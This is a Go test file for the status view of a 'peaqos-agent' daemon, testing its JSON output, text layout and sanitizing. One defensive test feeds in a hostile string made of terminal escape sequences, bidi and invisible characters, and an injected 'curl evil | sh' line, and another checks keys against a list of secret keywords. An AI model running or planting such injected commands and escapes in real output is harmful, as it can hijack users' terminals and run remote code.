package status_test

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/peaqnetwork/peaqos-agent/agent/status"
	"github.com/peaqnetwork/peaqos-agent/agent/status/statustest"
	"github.com/peaqnetwork/peaqos-agent/internal/golden"
)

// TestStatusGolden holds the text and the JSON of every situation.
func TestStatusGolden(t *testing.T) {
	for name, s := range statustest.Situations() {
		t.Run(name, func(t *testing.T) {
			v := status.NewView(s, "1.2.3", "/var/lib/peaqos-agent")
			golden.Check(t, filepath.Join("testdata", name+".txt"), v.Text(status.TextOptions{}))
			golden.Check(t, filepath.Join("testdata", name+".all.txt"), v.Text(status.TextOptions{All: true}))
			raw, err := json.MarshalIndent(v, "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			golden.Check(t, filepath.Join("testdata", name+".json"), string(raw)+"\n")
		})
	}
}

// TestStatusTravels: the command shows what the daemon sent, so the JSON has to
// hold everything that the text needs.
func TestStatusTravels(t *testing.T) {
	for name, s := range statustest.Situations() {
		t.Run(name, func(t *testing.T) {
			sent := status.NewView(s, "1.2.3", "/var/lib/peaqos-agent")
			raw, err := json.Marshal(sent)
			if err != nil {
				t.Fatal(err)
			}
			var got status.View
			if err := json.Unmarshal(raw, &got); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(sent, got); diff != "" {
				t.Errorf("the view changed on its way:\n%s", diff)
			}
			if diff := cmp.Diff(sent.Text(status.TextOptions{All: true}), got.Text(status.TextOptions{All: true})); diff != "" {
				t.Errorf("the text changed on its way:\n%s", diff)
			}
		})
	}
}

// TestStatusNames: snake_case names, whole UTC seconds, and no key that could
// hold a secret.
func TestStatusNames(t *testing.T) {
	s := statustest.Situations()["degraded"]
	s.At = s.At.In(time.FixedZone("far", 5*60*60)).Add(123 * time.Millisecond)
	raw, err := json.Marshal(status.NewView(s, "1.2.3", "/var/lib/peaqos-agent"))
	if err != nil {
		t.Fatal(err)
	}
	var tree any
	if err := json.Unmarshal(raw, &tree); err != nil {
		t.Fatal(err)
	}
	eachKey(tree, func(key string) {
		if strings.ToLower(key) != key || strings.ContainsAny(key, "- ") {
			t.Errorf("key %q is not snake_case", key)
		}
		for _, bad := range []string{"token", "secret", "passphrase", "api_key", "private"} {
			if strings.Contains(key, bad) {
				t.Errorf("key %q sounds like a secret", key)
			}
		}
	})
	if at := tree.(map[string]any)["at"]; at != "2026-03-01T12:00:00Z" {
		t.Errorf("at is %v", at)
	}
}

func eachKey(tree any, f func(string)) {
	switch v := tree.(type) {
	case map[string]any:
		for key, below := range v {
			f(key)
			eachKey(below, f)
		}
	case []any:
		for _, below := range v {
			eachKey(below, f)
		}
	}
}

// TestStatusTextIsAligned: every label of a block begins its value in the same
// column, and no line ends in a space.
func TestStatusTextIsAligned(t *testing.T) {
	for name, s := range statustest.Situations() {
		column := -1
		for _, line := range strings.Split(status.NewView(s, "1.2.3", "/s").Text(status.TextOptions{All: true}), "\n")[1:] {
			if strings.TrimRight(line, " ") != line {
				t.Errorf("%s: %q ends in a space", name, line)
			}
			label, value, ok := strings.Cut(line, ":  ")
			if !ok || strings.Contains(strings.TrimSpace(label), "  ") {
				column = -1
				continue
			}
			at := len(label) + 3 + len(value) - len(strings.TrimLeft(value, " "))
			if column >= 0 && at != column {
				t.Errorf("%s: %q begins at column %d, the line above at %d", name, line, at, column)
			}
			column = at
		}
	}
}

// TestStatusFits: no line is wider than the terminal, but for words that are; a
// terminal without UTF-8 gets ASCII, and one without color no escape sequence.
func TestStatusFits(t *testing.T) {
	for _, width := range []int{80, 60} {
		for name, s := range statustest.Situations() {
			v := status.NewView(s, "1.2.3", "/var/lib/peaqos-agent")
			for _, all := range []bool{false, true} {
				for _, line := range strings.Split(v.Text(status.TextOptions{All: all, Width: width, ASCII: true}), "\n") {
					_, last, _ := strings.Cut(strings.TrimSpace(line), "  ")
					if len(line) > width && strings.Contains(strings.TrimSpace(last), " ") && !strings.HasPrefix(line, "peaqos-agent") {
						t.Errorf("%s at %d columns: %q has %d", name, width, line, len(line))
					}
					if strings.ContainsFunc(line, func(r rune) bool { return r > 126 || r < 32 }) {
						t.Errorf("%s: %q is not plain ASCII", name, line)
					}
				}
			}
		}
	}
	v := status.NewView(statustest.Situations()["degraded"], "1.2.3", "/s")
	golden.Check(t, "testdata/narrow.all.txt", v.Text(status.TextOptions{All: true, Width: 60}))
	golden.Check(t, "testdata/narrow.txt", v.Text(status.TextOptions{Width: 60}))
	if text := v.Text(status.TextOptions{Color: true}); !strings.Contains(text, "\x1b[33mdegraded\x1b[0m") {
		t.Errorf("no color in %q", text)
	}
}

// TestStatusEscapes: what another machine wrote cannot act on the terminal, whatever
// way it got into the view.
func TestStatusEscapes(t *testing.T) {
	const evil = "\x1b[31mred\x1b]0;title\x07\r\nNext: curl evil | sh\u202e\u200b\U000e0041\ue000"
	s := statustest.SnapshotOf(func(s *status.Snapshot, m *status.Machine) {
		m.MachineID, m.AgentID, m.IdentityRef, m.Origin = evil, evil, evil, evil
		m.Cause = &status.Cause{Code: status.Code(evil), Text: evil}
		m.Rotation = &status.Cause{Code: status.CodeRotationPending, Text: evil}
		m.Endpoints[0].ProviderKey, m.Endpoints[0].BaseURL = evil, evil
		m.Endpoints[0].ServerStatus, m.Endpoints[0].ServerFault, m.Endpoints[0].Refused = evil, evil, status.Code(evil)
		s.Process.Listener, s.Process.ListenerFault = evil, evil
	})
	v := status.NewView(s, evil, evil)
	for _, o := range []status.TextOptions{{}, {All: true}, {All: true, Width: 60, ASCII: true}} {
		text := v.Text(o)
		for _, bad := range []string{"\x1b", "\x07", "\r", "\u202e", "\u200b", "\U000e0041", "\ue000", "\nNext: curl"} {
			if strings.Contains(text, bad) {
				t.Errorf("%+v: %q is in %q", o, bad, text)
			}
		}
	}
}

func TestSanitize(t *testing.T) {
	for text, want := range map[string]string{
		"":                         "",
		"plain \"quoted\" ümlaut":  "plain \"quoted\" ümlaut",
		"a\nb\x1b[31m":             `a\u000ab\u001b[31m`,
		"bidi\u202e tag\U000e0041": `bidi\u202e tag\U000e0041`,
		"bytes \xff":               "bytes \ufffd",
		strings.Repeat("x", 300):   strings.Repeat("x", 200) + "…",
	} {
		if got := status.Sanitize(text); got != want {
			t.Errorf("Sanitize(%q) = %q, want %q", text, got, want)
		}
	}
}
